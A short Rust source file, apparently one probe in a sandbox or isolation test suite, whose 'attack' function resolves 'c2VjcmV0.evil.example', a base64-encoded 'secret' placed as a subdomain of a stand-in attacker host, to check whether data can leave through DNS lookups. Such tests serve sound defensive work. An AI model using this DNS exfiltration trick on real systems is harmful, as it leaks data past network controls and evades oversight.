//! Asks the machine's resolver, by which words leave it.

use crate::*;

pub(crate) fn attack(_: &Query) -> Result<Answer, Failure> {
    use std::net::ToSocketAddrs as _;
    let secret = "c2VjcmV0.evil.example:80";
    Ok(Answer::Said(tried("resolve", secret.to_socket_addrs())))
}
